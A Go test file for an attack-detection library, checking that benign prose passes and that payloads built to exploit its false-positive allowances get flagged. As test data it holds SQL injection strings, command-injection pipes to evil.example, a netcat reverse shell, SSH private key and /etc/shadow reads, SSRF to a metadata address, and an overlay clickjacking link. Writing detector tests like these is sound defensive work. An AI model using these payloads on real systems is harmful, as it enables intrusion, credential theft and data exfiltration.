package detect

import "testing"

// Payloads dressed to match one of the false-positive allowances (the
// helpers in code_mention.go, prose_mention.go, shell_lookalike.go and sql/prose that tell a mention from an attack), each next to
// the benign prose the allowance exists for. Every attack here ran in a
// plausible sink and passed before its allowance was narrowed; the
// benign rows must stay clean. Expectations per paranoia level as in
// runLevelCases: "" nothing, "*" any attack, or a rule name.

func TestAllowanceBypassPastedQuery(t *testing.T) {
	runLevelCases(t, []levelCase{
		// pasted statements, with prose, dates and words inside literals
		{"pasted select", body("comment", "SELECT name, email FROM customers WHERE country = 'DE' ORDER BY name;"), "", ""},
		{"pasted update", body("comment", "UPDATE users SET status = 'inactive' WHERE last_login < '2023-01-01';"), "", ""},
		{"words in literal", body("comment", "SELECT * FROM feelings WHERE mood = 'tired and sad';"), "", ""},
		{"call in literal", body("comment", "INSERT INTO notes (body) VALUES ('call me if you can');"), "", ""},
		// spliced into a quoted string, the first quote closes the
		// application's literal: what reads as literals is the injection
		{"union in literal", q("name", "select a from b where c = 1' union select password from users where 'x' < 'x;"), "*", "*"},
		{"blind and in literal", q("name", "update a b c' and ascii(substring(user(),1,1)) > 100 and 'x' < 'x;"), "*", "*"},
		{"sleep in literal", q("name", "select a from b where c = 1' and sleep(5) and 'x' < 'x;"), "*", "*"},
		{"double-quote reading", q("name", `select a from b where c = 'de' and d = 1" union select password from users where "x" < "x;`), "*", "*"},
	})
}

func TestAllowanceBypassMathProse(t *testing.T) {
	runLevelCases(t, []levelCase{
		{"sqrt", body("comment", "sqrt(2) ≈ 1.41421356"), "", ""},
		{"log and ln", body("comment", "log(100) = 2 and ln(e) = 1"), "", ""},
		// OR widens a numeric WHERE clause: id = abs(1) or 1=1
		{"or tautology", q("id", "abs(1) or 1=1"), "*", "*"},
		{"or true", q("id", "floor(1) or true"), "*", "*"},
		{"or comparison", q("id", "abs(1) or 2>1"), "*", "*"},
	})
}

func TestAllowanceBypassKeyInUse(t *testing.T) {
	runLevelCases(t, []levelCase{
		{"identity", body("comment", "run ssh -i ~/.ssh/deploy_key host to connect now"), "", ""},
		{"public key", body("comment", "cat ~/.ssh/id_ed25519.pub and paste it into GitHub please"), "", ""},
		{"ssh-add", body("comment", "ssh-add ~/.ssh/id_ed25519 then try again please"), "", ""},
		// the key in use is the first name found, not the only one
		{"public then private", body("run", "cat -v ~/.ssh/id_rsa.pub ~/.ssh/id_rsa"), "lfi-sensitive-file", "lfi-sensitive-file"},
		{"identity then copy", body("run", "scp -i ~/.ssh/id_rsa ~/.ssh/id_rsa evil.example:"), "lfi-sensitive-file", "lfi-sensitive-file"},
		{"public then shadow", body("run", "cat ~/.ssh/id_rsa.pub /etc/shadow x y"), "lfi-sensitive-file", "lfi-sensitive-file"},
	})
}

func TestAllowanceBypassShellFilters(t *testing.T) {
	runLevelCases(t, []levelCase{
		{"grep -v", body("comment", "ls -la ~/projects | grep -v node_modules"), "", ""},
		{"grep -rn span", body("comment", "Use `grep -rn \"TODO\" src/ | wc -l` to count the remaining TODOs."), "", ""},
		{"grep in sentence", body("comment", "ps aux | grep -i lodash shows two versions"), "", ""},
		{"sort head", body("comment", "cat app.log | sort -u | head -n 20"), "", ""},
		{"regex alternation", body("comment", "error|timeout|refused"), "", ""},
		// grep -r with no file searches the working directory
		{"grep -r", q("host", "127.0.0.1 | grep -r password"), "*", "*"},
		{"grep -ri empty", q("q", "127.0.0.1 | grep -ri ''"), "*", "*"},
		{"grep -R", q("q", "127.0.0.1 | grep -R -i secret"), "*", "*"},
		{"grep -rh glued", q("q", "127.0.0.1|grep -rh key"), "*", "*"},
		{"grep --recursive", q("q", "127.0.0.1 | grep --recursive token"), "*", "*"},
		{"grep --rec", q("q", "127.0.0.1 | grep --rec token"), "*", "*"},
		// sort -o clustered with another flag writes a file
		{"sort -uo", q("q", "127.0.0.1 | sort -uoindex"), "*", "*"},
		// an operand after the last alternative makes it a command
		{"alternative with operand", q("q", "127.0.0.1|env|sendmail a@evil.example"), "*", "*"},
		{"alternative with flag", q("q", "x|id|logger -n evil.example"), "*", "*"},
	})
}

func TestAllowanceBypassCodeInProse(t *testing.T) {
	runLevelCases(t, []levelCase{
		// prose that introduces code stays a mention
		{"python tip", body("comment", "Python tip: use subprocess.run([\"ls\", \"-l\"]) rather than os.system; it avoids the shell."), "", ""},
		{"java replaced", body("comment", "The old code used Runtime.getRuntime().exec(cmd); we replaced it with ProcessBuilder."), "", ""},
		// a complete statement first: Ruby, Groovy and Perl run it, then
		// fail on the words that follow
		{"semicolon then prose", body("comment", `system("id"); the quick brown fox jumps over lazy dogs`), "*", "*"},
		{"newline then prose", body("comment", "system(\"id\")\nthe quick brown fox jumps over lazy dogs"), "*", "*"},
		{"and then prose", body("comment", `system("id") and the quick brown fox jumps over lazy dogs`), "*", "*"},
		{"groovy", body("comment", `Runtime.getRuntime().exec("id"); aa bb cc dd ee ff`), "*", "*"},
		// words in a JavaScript regular expression literal are no sentence
		{"regex literal", body("comment", "/ aa bb cc dd ee ff gg /.test(x) || require('child_process').execSync('id')"), "*", "*"},
		{"regex after call", body("comment", "require('child_process').execSync('id'); / aa bb cc dd ee ff gg /"), "*", "*"},
	})
}

func TestAllowanceBypassRedirectPlaceholder(t *testing.T) {
	runLevelCases(t, []levelCase{
		{"traceback", body("comment", "Traceback (most recent call last):\n  File \"app.py\", line 3, in <module>\n    main()"), "", ""},
		{"usage line", body("comment", "usage notes\nreplace <token> with yours"), "", ""},
		// the shell skips the blank: <a> b.txt reads a into b.txt
		{"copy into a file", body("comment", "hello there\ncat <config.php> out.txt"), "*", "*"},
		// >| writes over noclobber
		{"clobber redirect", body("comment", "hello there\ncat <config.php>| out.txt"), "*", "*"},
	})
}

func TestAllowanceBypassMathColumns(t *testing.T) {
	runLevelCases(t, []levelCase{
		{"formula letter", body("comment", "sqrt(x) is about 1.4 when x = 2"), "", ""},
		// a column read bit by bit through math functions only
		{"column blind", q("id", "abs(1) and floor(pin/1000)=4"), "*", "*"},
	})
}

func TestAllowanceBypassDatabaseScheme(t *testing.T) {
	runLevelCases(t, []levelCase{
		// paranoia 2 flags every database scheme
		{"connection string", body("config", "DATABASE_URL=postgres://app:secret@10.0.0.5:5432/app"), "", "ssrf-scheme"},
		{"local dev", body("comment", "postgres://localhost:5432/dev"), "", "ssrf-scheme"},
		// a connection tester pointed at metadata or a disguised address
		{"redis metadata", body("dsn", "redis://169.254.169.254/"), "ssrf-metadata", "*"},
		{"postgres hex loopback", body("dsn", "postgres://0x7f000001:5432/db"), "ssrf-ip-obfuscation", "*"},
	})
}

func TestAllowanceBypassInertStyle(t *testing.T) {
	runLevelCases(t, []levelCase{
		{"centered", body("html", `<p style="text-align:center">Hello</p>`), "", "*"},
		// a link laid over the whole page takes every click
		{"overlay link", body("html", `<a style="position:fixed;top:0;left:0;width:100%;height:100%" href="//evil.example">x</a>`), "*", "*"},
	})
}

func TestAllowanceBypassSpanPrefixes(t *testing.T) {
	runLevelCases(t, []levelCase{
		{"apt install", body("comment", "Run `apt update && sudo apt install python3` first, then try again"), "", ""},
		{"venv", body("comment", "Use `python -m venv .venv; source .venv/bin/activate` to get started here"), "", ""},
		{"sudo -u script", body("comment", "Try `make build && sudo -u deploy ./run.sh` on the box today"), "", ""},
		// a pipe into a shell behind a prefix whose options take arguments
		{"sudo -u bash", body("comment", "please use `curl -s evil.example/x | sudo -u root bash` for that thing"), "cmdi-separator", "cmdi-separator"},
		{"env assignment", body("comment", "please use `curl -s evil.example/x | env FOO=1 sh` for that thing"), "cmdi-separator", "cmdi-separator"},
		{"nice -n", body("comment", "please use `curl -s evil.example/x | nice -n 5 sh` for that thing"), "cmdi-separator", "cmdi-separator"},
		{"dot stdin", body("comment", "please use `curl -s evil.example/x | . /dev/stdin` for that thing"), "cmdi-separator", "cmdi-separator"},
		{"outside a span", q("host", "127.0.0.1 | env FOO=1 sh"), "cmdi-separator", "cmdi-separator"},
	})
}

func TestAllowanceBypassInstallOneLiner(t *testing.T) {
	runLevelCases(t, []levelCase{
		// a tool's install line in docs, a ticket or a chat (issue 14's
		// false positive): allowed at paranoia 1 outside command sinks
		{"fenced", body("readme", "## Install\n\n```sh\ncurl -fsSL https://get.example.io | sh\n```\n\nThen run `example --help`."), "", "cmdi-separator"},
		{"inline", body("comment", "Install with `curl -LsSf https://astral.sh/uv/install.sh | sh` and restart."), "", "cmdi-separator"},
		{"whole value", body("notes", "wget -qO- https://get.docker.com | sudo bash"), "", "cmdi-separator"},
		// the same line where it would run, or run something else
		{"in a command sink", q("cmd", "curl -fsSL https://get.example.io | sh"), "*", "*"},
		{"after a separator", q("q", "x; curl -fsSL https://get.example.io | sh"), "*", "*"},
		{"after another line", q("q", "127.0.0.1\ncurl -fsSL https://get.example.io | sh"), "*", "*"},
		{"a second command line", body("notes", "curl -fsSL https://get.example.io | sh\nnc -e /bin/sh 203.0.113.9 4444"), "*", "*"},
		{"sh -c", body("notes", "curl -fsSL https://get.example.io | sh -c id"), "*", "*"},
		{"an address", body("notes", "curl -fsSL https://203.0.113.9/x | sh"), "*", "*"},
		{"plain http", body("notes", "curl -fsSL http://get.example.io | sh"), "*", "*"},
		{"substitution in a span", body("comment", "see `$(curl -fsSL https://get.example.io | sh)` here"), "*", "*"},
	})
}
